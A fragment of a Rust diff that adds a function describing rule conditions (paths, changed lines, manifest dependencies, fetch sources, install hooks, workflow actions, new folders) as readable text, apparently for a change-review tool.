+            format!("Paths: {}.", words(&named.iter().cloned().chain(globs).collect::<Vec<_>>()))
+        }
+        RuleCondition::Line { side, words: named, pattern } => {
+            let side = match side {
+                RuleSide::Added => "Added",
+                RuleSide::Removed => "Removed",
+                RuleSide::Changed => "Changed",
+            };
+            let what = if pattern.is_some() { "by an expression".to_owned() } else { words(named) };
+            format!("{side} lines: {what}.")
+        }
+        RuleCondition::Manifest(ManifestChange::Dependency) => "Dependencies of manifests.".to_owned(),
+        RuleCondition::Manifest(ManifestChange::Source) => "Where manifests and lock files fetch from.".to_owned(),
+        RuleCondition::Manifest(ManifestChange::Hook) => "What manifests run at install.".to_owned(),
+        RuleCondition::Manifest(ManifestChange::Action) => "`uses:` of workflows.".to_owned(),
+        RuleCondition::NewFolder => "Folders at the top.".to_owned(),
+    }
 }
